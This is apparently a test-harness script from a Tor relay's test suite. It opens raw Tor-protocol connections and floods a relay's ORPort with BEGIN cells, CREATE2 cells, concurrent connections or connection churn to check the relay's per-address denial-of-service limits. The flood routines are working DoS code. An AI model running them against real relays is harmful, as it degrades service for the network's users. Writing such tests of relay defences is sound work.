#!/usr/bin/env python3
# dos_attack.py — denial-of-service floods against a relay's ORPort for dos-test.sh, every
# connection from a given source address (127.0.0.2) so the relay's per-address limits see one
# client. A raw Tor-protocol client (link protocol 5, CREATE_FAST with tor-spec 5.2.1 KDF-TOR,
# tor1 relay crypto with AES-128-CTR and running SHA-1 digests: torcirc.py).
# Usage: dos_attack.py PORT SRC streams N       one circuit, N BEGINs: "streams: END reasons {..}
#                                               destroyed R"
#        dos_attack.py PORT SRC creates LINKS N N CREATE2 cells over LINKS links: "creates: DESTROY
#                                               reasons {...}"
#        dos_attack.py PORT SRC conns N         N concurrent connections: "conns: accepted A
#                                               closed C"
#        dos_attack.py PORT SRC churn N         N connections in turn: "churn: accepted A closed C"
# DOS_REPEAT=1 in the environment repeats the flood until SIGTERM (then: "repeat: R rounds, E cut
# short").
import os
import signal
import ssl
import struct
import sys
import time

import torcirc
from torcirc import Circuit, Link, fixed

PORT, SRC, MODE = int(sys.argv[1]), sys.argv[2], sys.argv[3]


def tls(timeout=10):
    return torcirc.tls(PORT, SRC, timeout)


def streams(n):
    link = Link(PORT, SRC)
    circ = Circuit.create_fast(link, 0x80000001)
    if circ is None:
        print("streams: no CREATED_FAST")
        return
    out = [circ.cell_for(torcirc.BEGIN, sid, b"www.onionmesh.test:80\0") for sid in range(1, n + 1)]
    # ESTABLISH_RENDEZVOUS on this one-hop circuit: dropped
    out.append(circ.cell_for(33, 0, os.urandom(20)))
    link.sock.sendall(b"".join(out))
    reasons, destroyed, seen = {}, None, [0]
    for cid, cmd, p in link.cells(10, lambda: seen[0] >= n or destroyed is not None):
        if cmd == torcirc.DESTROY:
            destroyed = p[0]
            break
        if cmd == torcirc.RELAY and cid == circ.id:
            m = circ.decrypt(p)
            if m and m[1] == torcirc.END:
                seen[0] += 1
                reasons[m[3][0]] = reasons.get(m[3][0], 0) + 1
    print("streams: END reasons %s destroyed %s" % (sorted(reasons.items()), destroyed))


def creates(links, n):
    ls = [Link(PORT, SRC) for _ in range(links)]
    for i in range(n):
        ls[i % links].sock.sendall(fixed(0x80000000 | (i + 1), 10, struct.pack(">HH", 2, 84) + os.urandom(84)))
    reasons, got = {}, [0]
    for link in ls:
        for _, cmd, p in link.cells(5, lambda: got[0] >= n):
            if cmd == 4:
                got[0] += 1
                reasons[p[0]] = reasons.get(p[0], 0) + 1
    print("creates: DESTROY reasons %s" % sorted(reasons.items()))
    for link in ls:
        link.sock.close()


def conns(n):
    socks, accepted, closed = [], 0, 0
    for _ in range(n):
        try:
            s = tls(5)
            s.sendall(struct.pack(">HBH", 0, 7, 4) + struct.pack(">HH", 4, 5))
            s.settimeout(5)
            if s.recv(5):
                accepted += 1
                socks.append(s)
            else:
                closed += 1
        except (OSError, ssl.SSLError):
            closed += 1
    print("conns: accepted %d closed %d" % (accepted, closed))
    sys.stdout.flush()
    time.sleep(float(os.environ.get("DOS_HOLD", "2")))
    for s in socks:
        s.close()


def churn(n):
    """n connections, each closed after its TLS handshake, eight at a time (a quick churn even on
    a loaded machine: the connect bucket refills at DoSConnectionConnectRate meanwhile)."""
    import concurrent.futures

    def one(_):
        try:
            tls(5).close()
            return True
        except (OSError, ssl.SSLError):
            return False

    with concurrent.futures.ThreadPoolExecutor(8) as ex:
        results = list(ex.map(one, range(n)))
    accepted = sum(results)
    print("churn: accepted %d closed %d" % (accepted, n - accepted))


def run_once():
    if MODE == "churn":
        churn(int(sys.argv[4]))
    elif MODE == "streams":
        streams(int(sys.argv[4]))
    elif MODE == "creates":
        creates(int(sys.argv[4]), int(sys.argv[5]))
    elif MODE == "conns":
        conns(int(sys.argv[4]))
    else:
        sys.exit("unknown mode " + MODE)


def repeat():
    """DOS_REPEAT=1: the same flood again and again until SIGTERM (tools/bench/bench-dos keeps one
    going for as long as a download lasts); a round the relay cuts short (closed link, refused
    connection) counts as an error and the next round starts at once."""
    rounds, errors = [0], [0]

    def stop(*_):
        print("repeat: %d rounds, %d cut short" % (rounds[0], errors[0]), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, stop)
    while True:
        try:
            run_once()
        except (OSError, EOFError, ssl.SSLError, struct.error):
            errors[0] += 1
            time.sleep(0.05)
        rounds[0] += 1
        sys.stdout.flush()


if os.environ.get("DOS_REPEAT") == "1":
    repeat()
else:
    run_once()
